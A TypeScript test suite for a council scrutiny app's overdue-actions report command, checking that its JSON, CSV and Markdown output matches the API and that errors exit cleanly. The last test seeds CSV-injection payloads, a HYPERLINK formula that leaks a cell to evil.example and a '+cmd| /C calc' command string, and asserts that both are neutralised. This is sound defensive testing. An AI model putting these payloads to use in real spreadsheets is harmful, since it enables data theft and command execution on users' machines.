import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { buildApp } from '../../src/app.js';
import { defaultConfig } from '../../src/config.js';
import { openDatabase } from '../../src/db/sqlite/client.js';
import { scriptActor } from '../../src/domain/actor.js';
import { main } from '../../scripts/overdue-report.js';
import { callMain, spawnCommand, spawnScript } from './command.js';

// The cron command: `npm run overdue-report -- …` runs the same scan and prints the same report
// as the API. Result on stdout and nothing else; failures a non-zero exit and a reason on stderr.

const A = '2024-07-15T18:30:00+01:00';
const B = '2024-09-02T18:30:00+01:00'; // agendaDespatchBy 2024-08-22
const AS_OF = '2024-08-23';

/** The command's main() in this process (the first test and one bad flag run the real command). */
const cli = (databasePath: string, ...args: string[]) => callMain(main, args, { DATABASE_PATH: databasePath });

/** An app on a file database, so the test and the command see the same data. */
async function appOn(t: Test, path: string) {
  const db = openDatabase({ path });
  const app = await buildApp({ ...defaultConfig, scheduler: false, scanOnStart: false, rateLimitPerMinute: 100000 }, { db, logger: false });
  t.teardown(async () => {
    await app.close();
    db.$client.close();
  });
  const keys = {
    admin: (await app.services.apiKeys.create(scriptActor('test'), 'test-admin', ['admin'])).key,
    exempt: (await app.services.apiKeys.create(scriptActor('test'), 'test-exempt', ['read', 'read:exempt'])).key,
  };
  /** As the admin by default; `as: null` for an anonymous caller. */
  const request = (method: 'GET' | 'POST' | 'PATCH', url: string, payload?: unknown, as: keyof typeof keys | null = 'admin') =>
    app.inject({ method, url, payload: payload as never, headers: as ? { authorization: `Bearer ${keys[as]}` } : {} });
  return { app, db, request };
}

/** A temp database with two committees, overdue, due-soon and answered actions. */
async function seeded(t: Test) {
  const dir = mkdtempSync(join(tmpdir(), 'overdue-report-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const path = join(dir, 'scrutiny.sqlite');
  const api = await appOn(t, path);
  const ids: number[] = [];
  for (const name of ['Children and Young People Scrutiny Committee', 'Health Policy and Performance Board']) {
    const committeeId = (await api.request('POST', '/v1/committees', { name, kind: 'scrutiny' })).json().id;
    const a = (await api.request('POST', `/v1/committees/${committeeId}/meetings`, { startsAt: A, status: 'held' })).json().id;
    await api.request('POST', `/v1/committees/${committeeId}/meetings`, { startsAt: B, venue: 'Town Hall' });
    for (const body of [
      { title: `${name}: update on the action plan`, ownerText: 'Director' },
      { title: `${name}: figures`, kind: 'information', dueDate: '2024-08-01' },
      { title: `${name}: due soon`, dueDate: '2024-09-04' },
      { title: `${name}: "quoted", <b>bold</b>`, dueQuarter: '2024-25 Q1' },
    ]) {
      const res = await api.request('POST', '/v1/actions', { meetingId: a, kind: 'update', ...body });
      if (res.statusCode !== 201) throw new Error(res.body);
      ids.push(res.json().id);
    }
    const answered = (await api.request('POST', '/v1/actions', { meetingId: a, kind: 'update', title: `${name}: answered` })).json().id;
    await api.request('PATCH', `/v1/actions/${answered}`, { status: 'responded', response: 'Circulated.' });
  }
  // Part 2 business on committee 1: overdue too, but not for a public agenda pack.
  const item = await api.request('POST', '/v1/meetings/1/items', { title: 'Residential placements contract', visibility: 'exempt', exemptParagraph: 3 });
  if (item.statusCode !== 201) throw new Error(item.body);
  const exempt = await api.request('POST', '/v1/actions', { meetingId: 1, itemId: item.json().id, kind: 'update', title: 'Costs of the preferred bidder' });
  if (exempt.statusCode !== 201) throw new Error(exempt.body);
  const flagCount = () => (api.db.$client.prepare('SELECT count(*) AS n FROM overdue_flags').get() as { n: number }).n;
  return { dir, path, api, ids, flagCount };
}

t.test('npm run overdue-report prints the same JSON as GET /v1/reports/overdue after the scan', async (t) => {
  const s = await seeded(t);
  const run = await spawnCommand('npm', ['run', '-s', 'overdue-report', '--', '--as-of', AS_OF, '--format', 'json'], { DATABASE_PATH: s.path });
  t.equal(run.code, 0, run.stderr);
  const printed = JSON.parse(run.stdout);
  t.equal(printed.asOf, AS_OF);
  t.equal(printed.meetings.length, 2);
  t.equal(s.flagCount(), 7, 'the command flagged every overdue action: three public per committee and the exempt one');
  // The printed report is for a public agenda pack: what an anonymous caller of the API gets.
  const api = await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}`, undefined, null);
  t.equal(api.statusCode, 200);
  t.same(printed, api.json(), 'field for field the same report');
  t.notMatch(run.stdout, /preferred bidder/, 'no exempt business by default');
  t.same(printed.meetings.map((m: { overdue: unknown[] }) => m.overdue.length), [3, 3]);
  t.ok(printed.meetings.every((m: { overdue: { timesFlagged: number }[] }) => m.overdue.every((a) => a.timesFlagged === 1)), 'timesFlagged includes the flag just recorded');
});

t.test('the command and POST /v1/scans/overdue agree, as JSON and CSV', async (t) => {
  const s = await seeded(t);
  const scanned = await s.api.request('POST', '/v1/scans/overdue', { asOf: AS_OF });
  t.equal(scanned.statusCode, 200);
  t.equal(s.flagCount(), 7);
  const formats = ['csv']; // Markdown: see the --out test; every format renders the same report (report-formats.test.ts)
  const [json, wide, ...others] = await Promise.all([
    cli(s.path, '--as-of', AS_OF),
    cli(s.path, '--as-of', AS_OF, '--include', 'exempt'),
    ...formats.map((format) => cli(s.path, '--as-of', AS_OF, '--format', format)),
  ]);
  t.equal(json!.code, 0, json!.stderr);
  t.equal(json!.stderr, '', 'nothing on stderr when it worked');
  t.same(JSON.parse(json!.stdout), (await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}`, undefined, null)).json(), 'JSON is the default format');
  t.equal(wide!.code, 0, wide!.stderr);
  t.same(JSON.parse(wide!.stdout), scanned.json(), '--include exempt: the report the admin got from the scan');
  t.same(JSON.parse(wide!.stdout), (await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}`, undefined, 'exempt')).json());
  t.equal(s.flagCount(), 7, 'scanning again records nothing new');
  for (const [i, format] of formats.entries()) {
    const run = others[i]!;
    t.equal(run.code, 0, `${format}: ${run.stderr}`);
    const body = (await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}&format=${format}`, undefined, null)).body;
    t.equal(run.stdout, body, `${format} is byte for byte the API's`);
  }
});

t.test('--dry-run prints the report without recording flags', async (t) => {
  const s = await seeded(t);
  const before = (await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}`, undefined, null)).json();
  const run = await cli(s.path, '--as-of', AS_OF, '--dry-run');
  t.equal(run.code, 0, run.stderr);
  t.same(JSON.parse(run.stdout), before);
  t.equal(s.flagCount(), 0);
  t.ok(before.meetings.every((m: { overdue: { timesFlagged: number }[] }) => m.overdue.every((a) => a.timesFlagged === 0)));
});

t.test('--committee limits the scan and the report; --out writes a file and nothing to stdout', async (t) => {
  const s = await seeded(t);
  const out = join(s.dir, 'report.md');
  const run = await cli(s.path, '--as-of', AS_OF, '--committee', '2', '--format', 'md', '--out', out);
  t.equal(run.code, 0, run.stderr);
  t.equal(run.stdout, '');
  t.ok(existsSync(out));
  t.equal(readFileSync(out, 'utf8'), (await s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}&committeeId=2&format=md`, undefined, null)).body);
  t.equal(s.flagCount(), 3, 'only committee 2 was scanned');
  const committees = s.api.db.$client.prepare('SELECT DISTINCT a.committee_id AS c FROM overdue_flags f JOIN actions a ON a.id = f.action_id').all();
  t.same(committees, [{ c: 2 }]);
});

t.test('a bad flag: non-zero exit, a one-line reason on stderr, nothing on stdout', async (t) => {
  const s = await seeded(t);
  const cases: [string[], RegExp][] = [
    [['--as-of', '2024-13-45'], /--as-of/],
    [['--format', 'pdf'], /--format/],
    [['--bogus'], /bogus/],
    [['--committee', '999'], /999/],
  ];
  // The unknown option through the real command: exit 2 and the line on the process's stderr.
  const runs = await Promise.all(
    cases.map(([args]) => (args[0] === '--bogus' ? spawnScript('scripts/overdue-report.ts', ['--as-of', AS_OF, ...args], { DATABASE_PATH: s.path }) : cli(s.path, '--as-of', AS_OF, ...args))),
  );
  t.equal(runs[2]!.code, 2, 'bad usage exits 2');
  for (const [i, [args, reason]] of cases.entries()) {
    const run = runs[i]!;
    t.not(run.code, 0, `${args.join(' ')} exits non-zero`);
    t.equal(run.stdout, '', `${args.join(' ')}: nothing on stdout`);
    const lines = run.stderr.split('\n').filter((l) => l.trim() !== '');
    t.equal(lines.length, 1, `${args.join(' ')}: one line on stderr (${JSON.stringify(run.stderr)})`);
    t.match(lines[0], reason, `${args.join(' ')}: names the problem`);
  }
  t.equal(s.flagCount(), 0, 'nothing was scanned');
});

t.test('exit 0 on a new, empty database; non-zero with a reason when the database is unreadable', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'overdue-report-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const garbage = join(dir, 'not-a-database.sqlite');
  writeFileSync(garbage, 'this is not an SQLite database, just some text that is long enough to have a header. '.repeat(50));
  const paths = ['/proc/nope/x.sqlite', garbage];
  const [fresh, ...runs] = await Promise.all([join(dir, 'fresh.sqlite'), ...paths].map((path) => cli(path, '--as-of', AS_OF)));

  t.equal(fresh!.code, 0, `nothing to report still worked: ${fresh!.stderr}`);
  t.same(JSON.parse(fresh!.stdout), { asOf: AS_OF, meetings: [] });
  for (const [i, path] of paths.entries()) {
    const run = runs[i]!;
    t.not(run.code, 0, path);
    t.equal(run.code, 1, `${path}: exit 1 (a failure, not bad usage)`);
    t.equal(run.stdout, '', `${path}: nothing on stdout`);
    const lines = run.stderr.split('\n').filter((l) => l.trim() !== '');
    t.equal(lines.length, 1, `${path}: one line on stderr (${JSON.stringify(run.stderr)})`);
    t.match(lines[0], /^overdue-report: /);
  }
});

t.test('hostile titles are inert in the command\'s CSV and Markdown, and in the report streamed from the file', async (t) => {
  const s = await seeded(t);
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Figures")';
  const owner = '+cmd|\' /C calc\'!A0';
  const res = await s.api.request('POST', '/v1/actions', { meetingId: 1, kind: 'update', title: formula, ownerText: owner, dueDate: '2024-08-01' });
  t.equal(res.statusCode, 201, res.body);
  const [csv, md] = await Promise.all([cli(s.path, '--as-of', AS_OF, '--format', 'csv'), cli(s.path, '--as-of', AS_OF, '--format', 'md')]);
  // All committees from a database file: the API streams the report (jobs/report-stream.ts).
  const streamed = (format: string) => s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}&format=${format}`, undefined, null);
  for (const [name, body] of [['the command', csv!.stdout], ['the streamed report', (await streamed('csv')).body]] as const) {
    t.ok(body.includes(`"'${formula.replaceAll('"', '""')}"`), `${name}: the formula title is a quoted text cell`);
    t.ok(body.includes(`'${owner}`), `${name}: the formula owner is text`);
    t.notMatch(body, /(^|,)"?[=+\-@]/m, `${name}: no cell opens a formula`);
  }
  for (const [name, body] of [['the command', md!.stdout], ['the streamed report', (await streamed('md')).body]] as const) {
    t.ok(body.includes("\\+cmd\\|' /C calc'\\!A0"), `${name}: the owner's active characters escaped`);
  }
});
